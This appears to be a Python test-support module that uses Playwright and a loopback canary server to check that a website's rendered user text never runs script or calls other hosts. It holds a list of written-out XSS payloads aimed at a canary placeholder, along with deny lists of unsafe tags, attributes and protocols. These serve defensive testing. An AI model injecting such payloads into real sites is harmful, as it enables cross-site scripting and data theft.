"""Hostile text of the shared corpora, and how a page that shows it is judged: nothing runs, nothing calls out."""

import json
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from threading import Thread
from typing import Any

import pytest
from browser import ROOT
from playwright.sync_api import BrowserContext, ConsoleMessage, Page, Request

from stream.web.assets import inlined

CORPORA = ROOT.parent / "shared" / "corpora"
needs_corpora = pytest.mark.skipif(not CORPORA.is_dir(), reason="the shared corpora are not beside this working copy")

# The shared files tell only by a dialog that something ran. These call the canary.
CALLERS = [
    "<script>fetch('http://{{CANARY}}/{{N}}')</script>",
    "<img src='http://{{CANARY}}/{{N}}'>",
    "![a](http://{{CANARY}}/{{N}})",
    "<img src=x onerror='new Image().src=`http://{{CANARY}}/{{N}}`'>",
    "<div style='background:url(http://{{CANARY}}/{{N}});position:fixed;inset:0'>a</div>",
    "<style>@import 'http://{{CANARY}}/{{N}}';</style><link rel=stylesheet href='http://{{CANARY}}/{{N}}'>",
    "<iframe src='http://{{CANARY}}/{{N}}'></iframe><object data='http://{{CANARY}}/{{N}}'></object>",
    "<video src='http://{{CANARY}}/{{N}}' autoplay></video><audio src='http://{{CANARY}}/{{N}}' autoplay></audio>",
    "<svg><image href='http://{{CANARY}}/{{N}}' /><use href='http://{{CANARY}}/{{N}}#a' /></svg>",
    "<div hx-get='http://{{CANARY}}/{{N}}' hx-trigger=load data-hx-get='http://{{CANARY}}/{{N}}'"
    " data-hx-trigger=load>a</div>",
    "<link rel=prefetch href='http://{{CANARY}}/{{N}}'><link rel=modulepreload href='http://{{CANARY}}/{{N}}'>",
    "<base href='http://{{CANARY}}/'><img src=a>",
    "<form action='http://{{CANARY}}/{{N}}'><input name=csrf_token><button autofocus>a</button></form>",
    "[a](http://off.example/ \"x\" onmouseover='alert({{N}})')",
]


@dataclass(frozen=True, slots=True)
class Payload:
    """A hostile text. `name` says in a failure which one it was."""

    name: str
    text: str


CONTROL = Payload("control", "Harmless words")  # what every other text must look like on a page


def payloads(canary: str) -> list[Payload]:
    """The control, and every payload of both files, numbered, with addresses filled in."""
    found = [(f"caller-{number}", text) for number, text in enumerate(CALLERS)]
    for path in sorted(CORPORA.glob("xss_*.json")):
        found += [(each["id"], each["text"]) for each in json.loads(path.read_text(encoding="utf-8"))]
    filled = [(name, text.replace("{{OFFSITE}}", "off.example").replace("{{CANARY}}", canary)) for name, text in found]
    numbered = [Payload(name, text.replace("{{N}}", str(n))) for n, (name, text) in enumerate(filled, start=1)]
    return [CONTROL, *numbered]


def naughty_strings() -> list[str]:
    """Strings that break input handling."""
    found: list[str] = json.loads((CORPORA / "naughty_strings.json").read_text(encoding="utf-8"))
    return found


class Canary:
    """A server on loopback that answers nothing and remembers who called."""

    def __init__(self) -> None:
        self.calls: list[str] = []
        calls = self.calls

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                calls.append(f"{self.command} {self.path}")
                self.send_response(204)
                self.end_headers()

            do_POST = do_OPTIONS = do_HEAD = do_GET

            def log_message(self, format: str, *args: Any) -> None:
                """Nothing: what counts is in `calls`."""

        self._server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.address = f"127.0.0.1:{self._server.server_port}"

    @contextmanager
    def listening(self) -> Iterator["Canary"]:
        """Until the block ends."""
        thread = Thread(target=self._server.serve_forever, args=(0.05,))
        thread.start()
        try:
            yield self
        finally:
            self._server.shutdown()
            thread.join()
            self._server.server_close()


@dataclass  # without slots: Playwright leaves something on the objects whose methods it calls
class Witness:
    """What a browser did that no text of a person may make it do."""

    host: str
    ran: list[str] = field(default_factory=list)  # dialogs, popups, downloads, pages left
    called: list[str] = field(default_factory=list)  # requests to other hosts that were sent
    stopped: list[str] = field(default_factory=list)  # requests to other hosts that were held back
    said: list[str] = field(default_factory=list)  # errors and warnings of the console

    def follow(self, context: BrowserContext) -> Page:
        """A new page, listened to from its first moment on."""
        page = context.new_page()
        self._listen(page)
        context.on("page", self._popped_up)
        context.on("dialog", self._dialog)
        context.on("request", self._requested)
        context.on("requestfailed", self._failed)
        context.on("console", self._console)
        context.on("weberror", lambda error: self.said.append(str(error.error)))
        return page

    def _listen(self, page: Page) -> None:
        page.on("download", lambda download: self.ran.append(f"download of {download.url}"))

    def _popped_up(self, page: Page) -> None:
        self.ran.append(f"popup {page.url}")

    def _dialog(self, dialog: Any) -> None:
        self.ran.append(f"{dialog.type} {dialog.message}")
        dialog.dismiss()

    def _requested(self, request: Request) -> None:
        if not request.url.startswith((f"{self.host}/", "data:", "blob:")):
            self.called.append(request.url)

    def _failed(self, request: Request) -> None:
        """What the policy or the browser itself holds back is told as begun and then as failed; it was never sent."""
        if request.failure in ("csp", "origin") and request.url in self.called:
            self.called.remove(request.url)
            self.stopped.append(request.url)

    def _console(self, message: ConsoleMessage) -> None:
        if message.type in ("error", "warning"):
            self.said.append(message.text)


# Judging, in the page. `judge(document)` gives what is wrong with it and how each exhibit is built; an exhibit is the
# smallest thing that the site draws around a text of somebody. All of one kind must be built alike, whatever the text.
JUDGE = (
    f"const ICON = {json.dumps(inlined('icon.svg'))};"
    + r"""
const RICH = ".said, blockquote.was";
const PLAIN = ".typed, .excerpt, bdi, #patterns code, td[dir=auto], span[dir=auto], pre.notice";
const EXHIBITS = ".comment, .queue-item, .inbox > li, #patterns li, tbody tr, details.more, dl.facts";
const TAGS = new Set("P BR EM STRONG DEL CODE PRE BLOCKQUOTE UL OL LI A HR SPAN BDI".split(" "));
const ATTRIBUTES = new Set(["href", "rel", "class", "start", "data-htmx-powered"]);
const NEVER = "iframe, object, embed, base, img, image, video, audio, style, template, math, frame, applet, marquee," +
  "[style], [srcdoc], [formaction]:not(button[form=act][name=helpful]), [ping], meta[http-equiv]," +
  "body script, body link, body meta, body base, body title";

function leads(element) {
  return ["href", "src", "action", "formaction", "xlink:href", "poster", "data"].flatMap((name) => {
    const value = element.getAttribute(name);
    if (value === null) return [];
    try { return [[name, new URL(value, location.origin + "/en/")]]; } catch { return []; }
  });
}

function faultsOf(element, isTheirs) {
  const faults = [];
  for (const { name } of element.attributes) {
    if (/^on/i.test(name)) faults.push(name);
    if (isTheirs && !ATTRIBUTES.has(name)) faults.push(name);
  }
  for (const [name, url] of leads(element)) {
    if (name === "href" && element.matches("head > link[rel=icon]") && element.getAttribute(name) === ICON) continue;
    if (!["http:", "https:", "mailto:"].includes(url.protocol)) faults.push(`${name}=${url.href}`);
    else if (!isTheirs && url.origin !== location.origin) faults.push(`${name}=${url.href}`);
  }
  if (isTheirs && !TAGS.has(element.tagName)) faults.push("element");
  if (isTheirs && element.tagName === "A" && element.rel !== "ugc nofollow noopener") faults.push(`rel=${element.rel}`);
  return faults.map((fault) => `${element.tagName}: ${fault} in ${element.outerHTML.slice(0, 120)}`);
}

function shapeOf(element) {
  if (element.matches(RICH)) return "(rich)";
  const names = [...element.attributes].map(({ name }) => name).filter((name) => name !== "data-htmx-powered").sort();
  return `${element.tagName}[${names}](${[...element.children].map(shapeOf).join("")})`;
}

function judge(document, whole) {
  const faults = [];
  for (const element of document.querySelectorAll("*")) {
    const place = element.parentElement?.closest(RICH);
    faults.push(...faultsOf(element, Boolean(place)));
  }
  for (const place of document.querySelectorAll(PLAIN)) {
    if (place.children.length) faults.push(`markup in plain text: ${place.outerHTML.slice(0, 120)}`);
  }
  for (const mark of document.querySelectorAll(".results :is(h2 a, .passage) *")) {
    if (!mark.matches("mark") || mark.attributes.length) faults.push(`no mark: ${mark.outerHTML.slice(0, 120)}`);
  }
  for (const element of document.querySelectorAll(NEVER)) faults.push(`never: ${element.outerHTML.slice(0, 120)}`);
  const runs = 'script:not(head > script[type="application/ld+json"])';  // facts for search engines never run
  for (const script of document.querySelectorAll(runs)) {
    if (!(script.src ?? "").startsWith(location.origin + "/")) faults.push(`script ${script.outerHTML.slice(0, 120)}`);
  }
  const kinds = {};
  const exhibits = whole ? [document.documentElement] : document.querySelectorAll(EXHIBITS);
  for (const exhibit of exhibits) {
    const kind = whole ? "page" : [exhibit.tagName.toLowerCase(), ...exhibit.classList].join(".");
    const shape = shapeOf(exhibit);
    (kinds[kind] ??= {})[shape] = (kinds[kind][shape] ?? 0) + 1;
  }
  return { faults, kinds };
}

// Everything a reader's pointer and keyboard would set off, short of leaving the page.
function poke(document) {
  const view = document.ownerDocument?.defaultView ?? document.defaultView;
  const stay = (event) => {
    const from = event.target.closest?.("a, area, button, input, form");
    const [, goal] = from ? [...leads(from), ...leads(from.closest("form") ?? from)][0] ?? [] : [];
    if (!["javascript:", "data:", "vbscript:"].includes(goal?.protocol)) event.preventDefault();
  };
  view.addEventListener("click", stay, true);
  view.addEventListener("submit", stay, true);
  const theirs = document.querySelectorAll(`:is(${RICH}, ${PLAIN}) *, ${RICH}, ${PLAIN}, textarea, input`);
  for (const element of theirs) {
    element.focus?.();
    for (const type of ["pointerover", "mouseover", "mouseenter", "mousemove", "mousedown", "mouseup", "click",
                        "dblclick", "contextmenu", "wheel", "keydown", "input", "change", "toggle", "mouseout"]) {
      element.dispatchEvent(new view.MouseEvent(type, { bubbles: true, cancelable: true }));
    }
    element.blur?.();
  }
  view.removeEventListener("click", stay, true);
  view.removeEventListener("submit", stay, true);
}

// Errors of pictures, toggles and animations come a little after the page: two frames, and tasks queued by then.
function settled() {
  return new Promise((done) => requestAnimationFrame(() => requestAnimationFrame(() => setTimeout(done, 30))));
}
"""
)


@dataclass(frozen=True, slots=True)
class Verdict:
    """How a page was found: its faults, and how often each build of each kind of exhibit stands on it."""

    faults: list[str]
    kinds: dict[str, dict[str, int]]

    def odd(self) -> list[str]:
        """The kinds that are not all built alike."""
        return [f"{kind}: {shapes}" for kind, shapes in self.kinds.items() if len(shapes) > 1]

    def count(self, kind: str) -> int:
        """How many exhibits of a kind stand there."""
        return sum(sum(shapes.values()) for name, shapes in self.kinds.items() if name.startswith(kind))


def judged(page: Page) -> Verdict:
    """The open page, after its reader has touched everything on it."""
    found = page.evaluate(
        f"async () => {{ {JUDGE} await settled(); poke(document); await settled(); return judge(document, false); }}"
    )
    return Verdict(found["faults"], found["kinds"])


def judged_apart(page: Page, documents: dict[str, str], at_once: int = 40) -> dict[str, Verdict]:
    """Each document in a frame of its own, under the content policy of the open page."""
    script = f"""async (documents) => {{ {JUDGE}
      const frames = documents.map((html) => {{
        const frame = document.createElement("iframe");
        frame.srcdoc = html;
        return frame;
      }});
      const loaded = frames.map((frame) => new Promise((done) => frame.addEventListener("load", done)));
      document.body.append(...frames);
      await Promise.all(loaded);
      await settled();
      for (const frame of frames) if (frame.contentDocument) poke(frame.contentDocument);
      await settled();
      const found = frames.map((frame) => frame.contentDocument && judge(frame.contentDocument, true));
      frames.forEach((frame) => frame.remove());
      return found;
    }}"""
    names, found = list(documents), []
    for start in range(0, len(names), at_once):
        found += page.evaluate(script, [documents[name] for name in names[start : start + at_once]])
    left = {"faults": ["the frame was left"], "kinds": {}}
    return {name: Verdict(**(each or left)) for name, each in zip(names, found, strict=True)}


def judged_parsed(page: Page, documents: dict[str, str]) -> dict[str, Verdict]:
    """Each document parsed on its own, where nothing can run, and then all of them in one frame, where it can."""
    script = f"""async (documents) => {{ {JUDGE}
      const found = documents.map((html) => judge(new DOMParser().parseFromString(html, "text/html"), true));
      const frame = document.createElement("iframe");
      frame.srcdoc = documents.join("");
      const loaded = new Promise((done) => frame.addEventListener("load", done));
      document.body.append(frame);
      await loaded;
      poke(frame.contentDocument);
      await settled();
      frame.remove();
      return found;
    }}"""
    found = page.evaluate(script, list(documents.values()))
    return {name: Verdict(**each) for name, each in zip(documents, found, strict=True)}
